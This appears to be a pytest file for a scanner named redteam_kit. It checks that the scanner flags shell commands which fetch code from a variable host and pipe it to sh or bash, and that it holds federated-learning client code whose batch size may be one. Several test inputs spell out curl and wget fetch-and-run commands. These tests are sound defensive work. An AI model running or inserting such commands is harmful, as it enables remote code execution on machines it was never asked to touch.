"""Session 54 (lead): what the lead changed while merging, each with the attack it holds."""

from __future__ import annotations

import pytest

import redteam_kit as kit

FETCH_AND_RUN = "remote-code.fetch-and-run-command"


@pytest.mark.parametrize("command", [
    'f"curl -s {host}/boot | sh"',
    '"curl -s %s/boot | sh" % host',
    '"curl -s {}/boot | sh".format(host)',
    'f"wget -qO- {host}/x | bash"',
])
def test_a_command_spelled_around_an_unknown_part_meets_the_patterns(command: str) -> None:
    """sketch.py read an f-string's or a template's spelled text only when some part folded: the host from the
    command line left `curl ... | sh` unread, a program run (leftovers54's find)."""
    report = kit.scan_text(f"import subprocess, sys\nhost = sys.argv[1]\nsubprocess.run({command}, shell=True)\n")
    assert kit.holds(report, FETCH_AND_RUN)


def test_a_plain_command_around_an_unknown_part_is_no_fetch() -> None:
    report = kit.scan_text('import subprocess, sys\ngpu = sys.argv[1]\n'
                           'subprocess.run(f"nvidia-smi -i {gpu} --query-gpu=memory.used", shell=True)\n')
    assert not kit.holds(report, FETCH_AND_RUN)


ONE_BATCH = """import nvflare.client as flare
import pandas as pd
import torch
from torch.utils.data import DataLoader, TensorDataset

df = pd.read_csv("/data/site/train.csv")
age = torch.tensor(df["age"].to_numpy(), dtype=torch.float32)
picked = [7]
loader = DataLoader(TensorDataset(age[:, None], age), batch_size={size})
m = flare.receive()
xb, yb = next(iter(loader))
flare.send(flare.FLModel(params=m.params, metrics={{"v": float(yb.mean())}}))
"""


def test_a_batch_of_the_whole_table_is_an_aggregate() -> None:
    """`batch_size=len(df)`: one batch of every row (red team 54a had read any computed size as possibly 1)."""
    kit.assert_accepted(kit.scan_text(ONE_BATCH.format(size="len(df)")))


@pytest.mark.parametrize("size", ["len(picked)", "len(df) // len(df)", "max(1, len(df) // 10**9)"])
def test_a_batch_size_that_may_be_one_is_held(size: str) -> None:
    assert kit.scan_text(ONE_BATCH.format(size=size)).decision.value != "accept"
